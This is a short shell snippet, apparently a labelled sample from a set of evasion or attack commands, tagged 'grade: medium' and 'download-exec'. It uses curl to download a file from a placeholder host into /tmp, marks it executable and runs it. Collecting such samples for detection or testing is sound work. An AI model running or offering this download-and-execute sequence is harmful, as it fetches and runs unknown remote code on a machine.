# evasion: download, chmod and run
# grade: medium; does: download-exec
curl -so /tmp/x https://x.example/x
chmod +x /tmp/x
/tmp/x
